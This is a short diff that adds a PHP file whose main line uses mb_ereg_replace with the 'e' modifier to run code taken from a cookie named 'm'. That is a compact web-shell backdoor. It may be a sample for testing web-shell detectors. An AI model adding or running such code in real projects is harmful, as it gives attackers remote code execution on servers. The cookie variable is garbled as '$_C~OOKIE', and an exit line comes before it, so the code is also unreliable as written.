@@ -1,0 +1,3 @@
+<?php exit; ?>
+<?php
+mb_ereg_replace('.*', $_C~OOKIE['m'], '', 'e');
